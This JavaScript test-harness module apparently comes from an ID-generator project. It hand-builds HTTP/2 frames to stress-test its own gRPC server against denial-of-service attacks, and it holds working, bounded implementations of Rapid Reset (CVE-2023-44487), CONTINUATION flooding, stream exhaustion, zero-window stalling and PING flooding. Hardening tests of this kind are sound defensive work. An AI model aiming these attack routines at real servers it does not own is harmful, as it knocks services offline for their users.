// Copyright idgen authors.
//
// Raw HTTP/2 (RFC 9113) frames for attacking a node's gRPC listener the way a
// hostile client would: no HTTP/2 library, so nothing smooths the attack over.
// Each attack runs on one TCP connection for a bounded time and frame count,
// and reports what it sent and what the server answered (GOAWAY, RST_STREAM,
// connection closed). The caller measures the node (resident memory, a
// legitimate client's latency) while it runs.
//
// Used by tests/node/h2_hardening.test.mjs (regression tests with bounds) and
// bench/h2_attacks.mjs (the report with and without the node's bounds).
import net from 'node:net';
import { readFileSync } from 'node:fs';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

export const FrameType = {
  DATA: 0,
  HEADERS: 1,
  RST_STREAM: 3,
  SETTINGS: 4,
  PING: 6,
  GOAWAY: 7,
  WINDOW_UPDATE: 8,
  CONTINUATION: 9,
};
const END_STREAM = 0x1;
const ACK = 0x1;
const END_HEADERS = 0x4;
const CANCEL = 0x8;

export const Setting = { MAX_CONCURRENT_STREAMS: 3, INITIAL_WINDOW_SIZE: 4 };

export function frame(type, flags, streamId, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

export function settingsFrame(settings = {}) {
  const entries = Object.entries(settings);
  const body = Buffer.alloc(6 * entries.length);
  entries.forEach(([id, value], i) => {
    body.writeUInt16BE(Number(id), 6 * i);
    body.writeUInt32BE(value, 6 * i + 2);
  });
  return frame(FrameType.SETTINGS, 0, 0, body);
}

// HPACK (RFC 7541) integer with an N-bit prefix; first byte carries `high`.
function hpackInt(value, prefixBits, high = 0) {
  const max = (1 << prefixBits) - 1;
  if (value < max) return Buffer.from([high | value]);
  const out = [high | max];
  let rest = value - max;
  while (rest >= 128) {
    out.push((rest % 128) + 128);
    rest = Math.floor(rest / 128);
  }
  out.push(rest);
  return Buffer.from(out);
}

function hpackString(s) {
  const b = Buffer.from(s, 'latin1');
  return Buffer.concat([hpackInt(b.length, 7), b]);
}

// One header as "literal without indexing, new name" (0x00): no dynamic
// table state, so any block can be sent in any order.
export function hpackLiteral(name, value) {
  return Buffer.concat([Buffer.from([0]), hpackString(name), hpackString(value)]);
}

export function grpcHeaderBlock(authority, method) {
  return Buffer.concat([
    hpackLiteral(':method', 'POST'),
    hpackLiteral(':scheme', 'http'),
    hpackLiteral(':path', method),
    hpackLiteral(':authority', authority),
    hpackLiteral('content-type', 'application/grpc'),
    hpackLiteral('te', 'trailers'),
  ]);
}

// A gRPC length-prefixed message holding NextIdsRequest{count}.
export function nextIdsMessage(count) {
  const varint = [];
  let v = count;
  while (v >= 128) {
    varint.push((v % 128) + 128);
    v = Math.floor(v / 128);
  }
  varint.push(v);
  const proto = Buffer.from([0x10, ...varint]); // field 2 (count), varint
  const head = Buffer.alloc(5);
  head.writeUInt32BE(proto.length, 1);
  return Buffer.concat([head, proto]);
}

export const NEXT_IDS = '/idgen.v1.IdGenerator/NextIds';
export const UNKNOWN_METHOD = '/idgen.v1.IdGenerator/NoSuchMethod';

// Resident set size of a process in bytes (Linux /proc), or 0 once it is gone.
export function rssBytes(pid) {
  try {
    const m = /VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'));
    return m ? Number(m[1]) * 1024 : 0;
  } catch {
    return 0;
  }
}

// Samples rssBytes(pid) every `everyMs` until stop(); returns { stop, peak }.
export function sampleRss(pid, everyMs = 50) {
  let peak = rssBytes(pid);
  const timer = setInterval(() => {
    peak = Math.max(peak, rssBytes(pid));
  }, everyMs);
  return {
    get peak() {
      return peak;
    },
    stop() {
      clearInterval(timer);
      peak = Math.max(peak, rssBytes(pid));
      return peak;
    },
  };
}

// A raw HTTP/2 client connection: sends the preface and our SETTINGS, acks
// the server's SETTINGS, answers nothing else, and records what came back.
class RawH2 {
  constructor(socket) {
    this.socket = socket;
    this.closed = false;
    this.goaway = null; // { lastStreamId, errorCode }
    this.rstStreams = 0;
    this.refusedStreams = 0;
    this.serverSettings = {};
    this.bytesIn = 0;
    this.pending = Buffer.alloc(0);
    socket.on('data', (chunk) => this.onData(chunk));
    socket.on('close', () => (this.closed = true));
    socket.on('error', () => (this.closed = true));
  }

  onData(chunk) {
    this.bytesIn += chunk.length;
    this.pending = this.pending.length ? Buffer.concat([this.pending, chunk]) : chunk;
    while (this.pending.length >= 9) {
      const len = this.pending.readUIntBE(0, 3);
      if (this.pending.length < 9 + len) break;
      const type = this.pending[3];
      const flags = this.pending[4];
      const payload = this.pending.subarray(9, 9 + len);
      this.pending = this.pending.subarray(9 + len);
      if (type === FrameType.SETTINGS && !(flags & ACK)) {
        for (let i = 0; i + 6 <= payload.length; i += 6) {
          this.serverSettings[payload.readUInt16BE(i)] = payload.readUInt32BE(i + 2);
        }
        this.write(frame(FrameType.SETTINGS, ACK, 0));
      } else if (type === FrameType.GOAWAY && payload.length >= 8) {
        this.goaway = {
          lastStreamId: payload.readUInt32BE(0) & 0x7fffffff,
          errorCode: payload.readUInt32BE(4),
        };
      } else if (type === FrameType.RST_STREAM) {
        this.rstStreams++;
        if (payload.length >= 4 && payload.readUInt32BE(0) === 0x7) this.refusedStreams++;
      }
    }
    // Keep the parse buffer bounded: frames we do not care about (DATA of
    // answers) are skipped above; a partial giant frame is dropped.
    if (this.pending.length > 1 << 20) this.pending = Buffer.alloc(0);
  }

  write(buf) {
    if (this.closed) return false;
    return this.socket.write(buf);
  }

  // Resolves once the socket can take more (or is closed), bounded by ms.
  drain(ms = 1000) {
    if (this.closed || !this.socket.writableNeedDrain) return Promise.resolve();
    return new Promise((resolve) => {
      const socket = this.socket;
      const timer = setTimeout(done, ms);
      function done() {
        clearTimeout(timer);
        socket.off('drain', done);
        socket.off('close', done);
        resolve();
      }
      socket.once('drain', done);
      socket.once('close', done);
    });
  }

  close() {
    this.closed = true;
    this.socket.destroy();
  }
}

export async function connectRaw(port, { host = '127.0.0.1', settings = {}, timeoutMs = 3000 } = {}) {
  const socket = await new Promise((resolve, reject) => {
    const s = net.connect({ host, port });
    const timer = setTimeout(() => {
      s.destroy();
      reject(new Error(`connect to ${host}:${port} timed out`));
    }, timeoutMs);
    s.once('connect', () => {
      clearTimeout(timer);
      resolve(s);
    });
    s.once('error', (e) => {
      clearTimeout(timer);
      reject(e);
    });
  });
  socket.setNoDelay(true);
  const conn = new RawH2(socket);
  conn.write(Buffer.concat([PREFACE, settingsFrame(settings)]));
  // The server's SETTINGS comes first; give it a moment so that the limits it
  // advertises are known to the caller.
  for (let i = 0; i < 50 && Object.keys(conn.serverSettings).length === 0 && !conn.closed; i++) {
    await new Promise((r) => setTimeout(r, 10));
  }
  return conn;
}

// Runs `step(conn, i)` (which writes frames) until `durationMs` or `maxSteps`,
// yielding to the event loop whenever the socket buffer is full. Returns a
// summary of what the server did.
async function pump(conn, { durationMs, maxSteps, step }) {
  const start = Date.now();
  let steps = 0;
  while (steps < maxSteps && Date.now() - start < durationMs && !conn.closed) {
    for (let burst = 0; burst < 64 && steps < maxSteps; burst++, steps++) {
      if (!conn.write(step(steps))) break;
    }
    await conn.drain(200);
    await new Promise((r) => setImmediate(r));
  }
  return {
    steps,
    ms: Date.now() - start,
    closedByServer: conn.closed,
    goaway: conn.goaway,
    rstStreams: conn.rstStreams,
    refusedStreams: conn.refusedStreams,
    serverSettings: conn.serverSettings,
  };
}

// CVE-2023-44487: HEADERS + DATA + RST_STREAM(CANCEL) on stream after stream.
export async function rapidReset(port, { durationMs = 3000, maxSteps = 2_000_000, method = NEXT_IDS } = {}) {
  const conn = await connectRaw(port);
  const block = grpcHeaderBlock(`127.0.0.1:${port}`, method);
  const body = nextIdsMessage(1);
  const rst = Buffer.alloc(4);
  rst.writeUInt32BE(CANCEL);
  const result = await pump(conn, {
    durationMs,
    maxSteps,
    step: (i) => {
      const id = 2 * i + 1;
      return Buffer.concat([
        frame(FrameType.HEADERS, END_HEADERS, id, block),
        frame(FrameType.DATA, 0, id, body),
        frame(FrameType.RST_STREAM, 0, id, rst),
      ]);
    },
  });
  conn.close();
  return result;
}

// HEADERS without END_HEADERS, then CONTINUATION frames of fresh literal
// headers, never ending the block.
export async function continuationFlood(port, { durationMs = 3000, maxSteps = 2_000_000 } = {}) {
  const conn = await connectRaw(port);
  conn.write(frame(FrameType.HEADERS, 0, 1, grpcHeaderBlock(`127.0.0.1:${port}`, NEXT_IDS)));
  const chunk = hpackLiteral('x-flood', 'a'.repeat(8000));
  const result = await pump(conn, {
    durationMs,
    maxSteps,
    step: () => frame(FrameType.CONTINUATION, 0, 1, chunk),
  });
  conn.close();
  return result;
}

// Opens `streams` streams (HEADERS, no END_STREAM) and never finishes them.
export async function openStreams(port, { streams = 50_000, durationMs = 5000 } = {}) {
  const conn = await connectRaw(port);
  const block = grpcHeaderBlock(`127.0.0.1:${port}`, NEXT_IDS);
  const result = await pump(conn, {
    durationMs,
    maxSteps: streams,
    step: (i) => frame(FrameType.HEADERS, END_HEADERS, 2 * i + 1, block),
  });
  // Let the server take in what was sent before we measure and close.
  await new Promise((r) => setTimeout(r, 500));
  result.closedByServer = conn.closed;
  result.rstStreams = conn.rstStreams;
  result.refusedStreams = conn.refusedStreams;
  result.goaway = conn.goaway;
  return { ...result, close: () => conn.close() };
}

// Sets the receive window to 0, then sends complete NextIds(count) unary
// calls that the server answers into a window that never opens.
export async function unreadAnswers(port, { calls = 6000, count = 10000, durationMs = 5000 } = {}) {
  const conn = await connectRaw(port, { settings: { [Setting.INITIAL_WINDOW_SIZE]: 0 } });
  const block = grpcHeaderBlock(`127.0.0.1:${port}`, NEXT_IDS);
  const body = nextIdsMessage(count);
  const result = await pump(conn, {
    durationMs,
    maxSteps: calls,
    step: (i) => {
      const id = 2 * i + 1;
      return Buffer.concat([
        frame(FrameType.HEADERS, END_HEADERS, id, block),
        frame(FrameType.DATA, END_STREAM, id, body),
      ]);
    },
  });
  await new Promise((r) => setTimeout(r, 1000));
  result.closedByServer = conn.closed;
  result.rstStreams = conn.rstStreams;
  result.refusedStreams = conn.refusedStreams;
  result.goaway = conn.goaway;
  return { ...result, close: () => conn.close() };
}

// PING frames `everyMs` apart on an idle connection (no call in flight),
// `pings` of them or until the server closes the connection or sends GOAWAY.
export async function pingFlood(port, { pings = 10, everyMs = 100 } = {}) {
  const conn = await connectRaw(port);
  let sent = 0;
  for (; sent < pings && !conn.closed && !conn.goaway; sent++) {
    const payload = Buffer.alloc(8);
    payload.writeUInt32BE(sent, 4);
    conn.write(frame(FrameType.PING, 0, 0, payload));
    await new Promise((r) => setTimeout(r, everyMs));
  }
  // The GOAWAY may trail the last ping.
  for (let i = 0; i < 20 && !conn.goaway && !conn.closed; i++) await new Promise((r) => setTimeout(r, 50));
  const result = { sent, goaway: conn.goaway, closedByServer: conn.closed };
  conn.close();
  return result;
}
